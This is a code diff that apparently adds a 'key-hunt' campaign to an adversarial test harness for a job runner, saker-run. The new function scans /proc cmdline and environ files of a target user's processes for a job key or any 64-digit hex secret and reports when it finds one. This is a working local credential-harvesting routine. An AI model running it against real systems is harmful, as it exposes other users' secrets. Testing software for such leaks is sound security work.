@@ -368,6 +368,40 @@ def cmd_shm(args):
         os.unlink(path)
 
 
+def cmd_key_hunt(args):
+    """Look for the job key where any user can look: every process of the uid's argv
+    (/proc/PID/cmdline is world-readable) and, should the kernel allow it, environment."""
+    hexkey = re.compile(rb"(?<![0-9a-f])[0-9a-f]{64}(?![0-9a-f])")
+    deadline = time.time() + args.deadline
+    first, seen = None, set()
+    while time.time() < deadline and not os.path.exists(args.stop):
+        if first is not None and time.time() - first > args.duration:
+            break
+        for pid in filter(str.isdigit, os.listdir("/proc")):
+            try:
+                if os.stat("/proc/" + pid).st_uid != args.uid:
+                    continue
+            except OSError:
+                continue
+            first = first or time.time()
+            for what in ("cmdline", "environ"):
+                try:
+                    with open("/proc/%s/%s" % (pid, what), "rb") as f:
+                        data = f.read()
+                except OSError:
+                    continue
+                if (pid, what) not in seen:
+                    seen.add((pid, what))
+                    say("INFO read /proc/%s/%s (%d bytes)" % (pid, what, len(data)))
+                if b"SAKER_JOB_KEY" in data or hexkey.search(data):
+                    say("FACT key-seen /proc/%s/%s shows the job key (or its variable)" % (pid, what))
+                    finish(args)
+                    return
+        time.sleep(0.01)
+    say("INFO attack phase over: %d process(es) of uid %d read" % (len({p for p, _ in seen}), args.uid))
+    finish(args)
+
+
 def cmd_runtime_files(args):
     """Pre-create the heartbeat directory (with a stale rank-0 file) or the preempt
     marker for the next COUNT process ids: saker-run names both after its pid."""
@@ -623,6 +657,7 @@ def main():
     campaign("hijack", cmd_hijack)
     campaign("replay", cmd_replay, flows=dict(required=True))
     campaign("shm", cmd_shm)
+    campaign("key-hunt", cmd_key_hunt)
     q = campaign("squat", cmd_squat)
     q = campaign("sniff", cmd_sniff, iface=dict(default="lo"), pattern=dict(required=True), flows=dict(default=""))
     q = campaign("flip-proxy", cmd_flip_proxy, pid=dict(type=int, required=True), listen_ip=dict(required=True),
